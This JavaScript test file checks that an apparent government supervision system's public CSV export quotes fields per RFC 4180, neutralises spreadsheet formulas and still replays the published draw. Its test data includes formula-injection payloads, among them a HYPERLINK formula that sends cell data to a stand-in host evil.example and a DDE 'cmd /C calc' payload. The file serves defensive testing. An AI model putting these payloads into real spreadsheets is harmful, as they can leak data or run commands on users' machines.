// Issue 16 item 6: the public pool CSV is written by THE CSV writer (RFC 4180, formulas
// neutralised). Enterprises named like a spreadsheet formula, or with commas, quotes and a line
// break, still give a file `ecogov draw replay` reads, with the published pool hash and draw.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { demoDb, startServer, Client, ecogov } from '../lib.mjs'

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  '景瓷,逗号"引号"有限公司',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd',
]

let env, server, staff, anon

before(async () => {
  env = demoDb({ enterprises: 40 })
  server = await startServer(env.db)
  staff = await Client.as(server.url, 'staff')
  anon = new Client(server.url)
})

after(async () => {
  await server?.stop()
  env?.cleanup()
})

// RFC 4180 records of a text, written from the RFC (not from our parser).
function parseCsv(text) {
  const rows = []
  let row = [], field = '', i = 0, quoted = false
  while (i < text.length) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue }
      if (c === '"') { quoted = false; i++; continue }
      field += c; i++; continue
    }
    if (c === '"') { quoted = true; i++; continue }
    if (c === ',') { row.push(field); field = ''; i++; continue }
    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue }
    assert.notEqual(c, '\n', 'a bare LF outside quotes: lines end in CRLF')
    field += c; i++
  }
  if (field || row.length) { row.push(field); rows.push(row) }
  return rows
}

test('a pool with hostile names is quoted, neutralised and still replays', async () => {
  const targets = (await staff.get('/api/v1/supervision/targets')).json.items
  const general = targets.filter((t) => t.class_code === 'general').slice(0, HOSTILE.length + 1)
  assert.equal(general.length, HOSTILE.length + 1)
  const names = {}
  for (let i = 0; i < HOSTILE.length; i++) {
    const cur = (await staff.get(`/api/v1/enterprises/${general[i].enterprise_id}`)).json
    const r = await staff.put(`/api/v1/enterprises/${cur.id}`, { ...cur, name: HOSTILE[i] })
    assert.equal(r.status, 200, r.text)
    names[cur.uscc] = HOSTILE[i]
  }
  // a line break cannot come through the API (single-line field); an older import could hold one
  const last = general[HOSTILE.length]
  const multi = '第一行\r\n第二行,"末行"'
  const sql = `UPDATE enterprises SET name = '${multi.replace(/'/g, "''")}' WHERE id = ${last.enterprise_id}`
  const direct = spawnSync('sqlite3', [env.db, sql], { encoding: 'utf8' })
  assert.equal(direct.status, 0, direct.stderr)
  names[last.uscc] = multi

  const r = await staff.post('/api/v1/supervision/draws', {
    title: '名称测试', period: '2026Q4', matter_id: 1, counts: { general: 4, key: 0, special: 0, positive: 0 },
  })
  assert.equal(r.status, 201, r.text)
  const id = r.json.id
  assert.equal((await staff.post(`/api/v1/supervision/draws/${id}/execute`, {})).status, 200)
  assert.equal((await staff.post(`/api/v1/supervision/draws/${id}/publish`, {})).status, 200)
  const pub = (await anon.get(`/api/v1/public/supervision/draws/${id}`)).json

  const csv = await anon.get(`/api/v1/public/supervision/draws/${id}/files/general`)
  assert.equal(csv.status, 200)
  const rows = parseCsv(csv.text)
  assert.deepEqual(rows[0], ['key', 'name'])
  const byKey = Object.fromEntries(rows.slice(1).map((row) => [row[0], row]))
  for (const [uscc, name] of Object.entries(names)) {
    const row = byKey[uscc]
    assert.ok(row, `pool row for ${uscc}`)
    assert.equal(row.length, 2)
    // neutralised: a leading = + - @ gets an apostrophe, so a spreadsheet shows text
    assert.equal(row[1], /^[=+\-@]/.test(name) ? "'" + name : name)
  }

  const file = path.join(env.dir, 'hostile.csv')
  writeFileSync(file, csv.text)
  const out = ecogov(['draw', 'replay', '--seed', pub.seed, '--pool', file, '--count', '4'])
  assert.equal(out.status, 0, out.stderr)
  const stratum = pub.strata.find((s) => s.class_code === 'general')
  assert.match(out.stdout, new RegExp(`pool_sha256\t${stratum.pool_hash}`))
  const cli = out.stdout.trim().split('\n').filter((l) => /^\d+\t/.test(l)).map((l) => l.split('\t')[1])
  assert.deepEqual(cli, pub.items.filter((i) => i.class_code === 'general').map((i) => i.target_key))
})
